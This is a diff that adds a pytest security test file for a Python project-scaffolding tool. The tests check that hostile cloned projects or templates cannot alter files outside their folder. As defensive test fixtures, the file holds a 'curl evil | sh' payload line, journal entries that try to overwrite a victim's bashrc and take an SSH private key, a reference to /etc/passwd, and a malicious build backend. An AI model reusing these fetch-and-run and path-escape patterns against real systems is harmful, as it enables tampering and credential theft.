@@ -1,0 +1,253 @@
+"""A cloned repository or a template from a stranger gets nowhere outside its project.
+
+Each test plays an attacker who controls every file of a project folder or of a template, and
+checks that the victim's files outside it stay byte for byte as they were.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from hfscaffold.adapters.transaction import JOURNAL
+
+pytestmark = pytest.mark.usefixtures("offline_uv")
+
+
+def snapshot(folder: Path) -> dict[str, bytes]:
+    """Every file below ``folder`` (links as their target text), to compare before and after."""
+    found: dict[str, bytes] = {}
+    for path in sorted(folder.rglob("*")):
+        key = str(path.relative_to(folder))
+        if path.is_symlink():
+            found[key] = b"-> " + os.readlink(path).encode()
+        elif path.is_file():
+            found[key] = path.read_bytes()
+    return found
+
+
+def one_line_error(stderr: str) -> str:
+    assert "Traceback" not in stderr, stderr
+    lines = [line for line in stderr.splitlines() if line.startswith("error: ")]
+    assert len(lines) == 1, stderr
+    return lines[0]
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    folder = tmp_path / "victim"
+    folder.mkdir()
+    (folder / "bashrc").write_text("export PATH=/usr/bin\n")
+    (folder / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    return folder
+
+
+@pytest.fixture
+def project(tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
+    dest = tmp_path / "cloned"
+    result = run_cli("new", "cloned", "--with", "transformers", "--dest", str(dest), "--no-sync")
+    assert result.exit_code == 0, result.stderr
+    return dest
+
+
+@pytest.fixture
+def synced_other(tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Another project of the user's, with its own built environment: it must never be touched."""
+    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
+    dest = tmp_path / "other"
+    result = run_cli("new", "other", "--with", "datasets", "--dest", str(dest), "--no-verify")
+    assert result.exit_code == 0, result.stderr
+    return dest
+
+
+# 1. A committed journal names files outside the project.
+
+
+@pytest.mark.parametrize(
+    "command",
+    [("lock", "--check"), ("lock",), ("sync",), ("upgrade", "--apply", "--cooldown", "0 days"), ("doctor",)],
+)
+def test_a_committed_journal_moves_nothing_outside_the_project(
+    project: Path, victim: Path, run_cli, command: tuple[str, ...]
+) -> None:
+    (project / "payload.txt").write_text("curl evil | sh\n")
+    (project / JOURNAL).write_text(json.dumps({"../victim/bashrc": "payload.txt", "stolen": "../victim/id_rsa"}))
+    before, mine = snapshot(victim), snapshot(project)
+    result = run_cli(*command, "--project", str(project))
+    assert result.exit_code == 2
+    assert "journal" in one_line_error(result.stderr)
+    assert snapshot(victim) == before
+    assert snapshot(project) == mine  # refused as a whole: nothing moved, nothing removed
+
+
+@pytest.mark.parametrize(
+    "journal",
+    [
+        {"pyproject.toml": "../victim/bashrc"},  # staged file outside
+        {"pyproject.toml": ".uv.lock.hfscaffold-new"},  # not the staged name of that file
+        {"sub/pyproject.toml": ".sub/pyproject.toml.hfscaffold-new"},
+        {"/etc/passwd": ".passwd.hfscaffold-new"},
+        ["pyproject.toml"],
+    ],
+)
+def test_a_journal_entry_that_is_not_a_staged_file_of_the_project_is_refused(
+    project: Path, victim: Path, run_cli, journal: object
+) -> None:
+    (project / JOURNAL).write_text(json.dumps(journal))
+    before, mine = snapshot(victim), snapshot(project)
+    result = run_cli("lock", "--check", "--project", str(project))
+    assert result.exit_code == 2 and "journal" in one_line_error(result.stderr)
+    assert snapshot(victim) == before and snapshot(project) == mine
+
+
+def test_a_staged_file_that_is_a_link_is_never_written_through(project: Path, victim: Path, run_cli) -> None:
+    (project / ".uv.lock.hfscaffold-new").symlink_to(victim / "bashrc")
+    before = snapshot(victim)
+    (project / "pyproject.toml").write_text((project / "pyproject.toml").read_text().replace("[tool.hfscaffold]\n", "[tool.hfscaffold]\nnote = 1\n"))
+    result = run_cli("lock", "--project", str(project))
+    assert snapshot(victim) == before
+    assert result.exit_code == 0, result.stderr
+    assert not (project / "uv.lock").is_symlink()
+
+
+def test_a_lock_file_that_links_outside_is_refused_not_truncated(project: Path, victim: Path, run_cli) -> None:
+    (project / ".hfscaffold.lock").symlink_to(victim / "bashrc")
+    before = snapshot(victim)
+    result = run_cli("lock", "--project", str(project))
+    assert result.exit_code == 2 and ".hfscaffold.lock" in one_line_error(result.stderr)
+    assert snapshot(victim) == before
+
+
+# 2. An untrusted template runs code through the project's build backend.
+
+
+def _template(root: Path, pyproject: str, extra: dict[str, str] | None = None, settings: str = "") -> Path:
+    template = root / "their-template"
+    template.mkdir()
+    (template / "copier.yml").write_text(f"project_name:\n  type: str\n{settings}")
+    (template / "pyproject.toml.jinja").write_text(pyproject)
+    for name, content in (extra or {}).items():
+        (template / name).write_text(content)
+    return template
+
+
+def test_an_untrusted_template_build_backend_never_runs(tmp_path: Path, run_cli) -> None:
+    marker = tmp_path / "backend-ran"
+    backend = (
+        f"open({str(marker)!r}, 'w').write('pwned')\n"
+        "def get_requires_for_build_wheel(config_settings=None): return []\n"
+        "def prepare_metadata_for_build_wheel(d, config_settings=None): raise SystemExit(1)\n"
+    )
+    template = _template(
+        tmp_path,
+        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\ndynamic = ["dependencies"]\n\n'
+        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+        {"backend.py": backend},
+    )
+    dest = tmp_path / "theirs"
+    result = run_cli("new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync")
+    assert result.exit_code == 2
+    assert "--trust" in result.stderr and "build" in one_line_error(result.stderr)
+    assert not marker.exists()
+    assert not dest.exists()
+
+
+@pytest.mark.parametrize(
+    ("tail", "why"),
+    [
+        ('\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n', "build"),
+        ('\n[tool.uv.sources]\nlocal = { path = "vendor/local" }\n', "path"),
+        ('\n[tool.uv]\npackage = true\n', "build"),
+    ],
+)
+def test_an_untrusted_template_may_not_build_or_install_its_own_code(tmp_path: Path, run_cli, tail: str, why: str) -> None:
+    template = _template(
+        tmp_path,
+        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
+        'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n' + tail,
+    )
+    dest = tmp_path / "theirs"
+    result = run_cli("new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync")
+    assert result.exit_code == 2 and why in one_line_error(result.stderr) and "--trust" in result.stderr
+    assert not dest.exists()
+
+
+# 3. A template ships .venv as a link into another project's environment.
+
+
+def test_new_never_syncs_into_an_environment_a_template_links_to(tmp_path: Path, run_cli, synced_other: Path) -> None:
+    before = snapshot(synced_other / ".venv")
+    template = _template(
+        tmp_path,
+        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
+        'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n\n[tool.uv]\npackage = false\n',
+        settings="_preserve_symlinks: true\n",
+    )
+    (template / ".venv").symlink_to(synced_other / ".venv")
+    dest = tmp_path / "theirs"
+    result = run_cli("new", "theirs", "--with", "transformers", "--template", str(template), "--dest", str(dest), "--no-verify")
+    assert result.exit_code == 2, result.stderr
+    assert ".venv" in one_line_error(result.stderr)
+    assert snapshot(synced_other / ".venv") == before
+    assert not dest.exists()
+
+
+# 4. and 5. A project's .venv that is a file, or whose parts link into another environment.
+
+
+def test_a_venv_that_is_a_file_naming_another_environment_is_refused(project: Path, synced_other: Path, run_cli) -> None:
+    before = snapshot(synced_other / ".venv")
+    (project / ".venv").write_text(str(synced_other / ".venv") + "\n")
+    result = run_cli("sync", "--project", str(project))
+    assert result.exit_code == 1
+    assert ".venv" in one_line_error(result.stderr)
+    assert snapshot(synced_other / ".venv") == before
+    assert run_cli("doctor", "--project", str(project)).exit_code == 1
+
+
+@pytest.mark.parametrize("part", ["lib", "bin", "pyvenv.cfg"])
+def test_a_venv_whose_parts_link_into_another_environment_is_refused(
+    project: Path, synced_other: Path, run_cli, part: str
+) -> None:
+    assert run_cli("sync", "--project", str(project)).exit_code == 0
+    venv = project / ".venv"
+    target = synced_other / ".venv" / part
+    if (venv / part).is_dir() and not (venv / part).is_symlink():
+        import shutil
+
+        shutil.rmtree(venv / part)
+    else:
+        (venv / part).unlink()
+    (venv / part).symlink_to(target)
+    before = snapshot(synced_other / ".venv")
+    result = run_cli("sync", "--project", str(project))
+    assert result.exit_code == 1
+    assert part in one_line_error(result.stderr)
+    assert snapshot(synced_other / ".venv") == before
+    doctor = run_cli("doctor", "--project", str(project))
+    assert doctor.exit_code == 1 and part in doctor.stdout and "no problems" not in doctor.stdout
+
+
+# 6. A dangling link in a template.
+
+
+def test_a_dangling_link_in_a_template_is_never_written_through(tmp_path: Path, run_cli) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    template = _template(
+        tmp_path,
+        '[project]\nname = "{{ project_name }}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
+        'dependencies = [{% for c in components %}"{{ c }}", {% endfor %}]\n\n[tool.uv]\npackage = false\n',
+        settings="_preserve_symlinks: true\n",
+    )
+    (template / "uv.lock").symlink_to(outside / "uv.lock")
+    dest = tmp_path / "theirs"
+    result = run_cli("new", "theirs", "--with", "datasets", "--template", str(template), "--dest", str(dest), "--no-sync")
+    assert result.exit_code == 2
+    assert "link" in one_line_error(result.stderr)
+    assert list(outside.iterdir()) == []
+    assert not dest.exists()
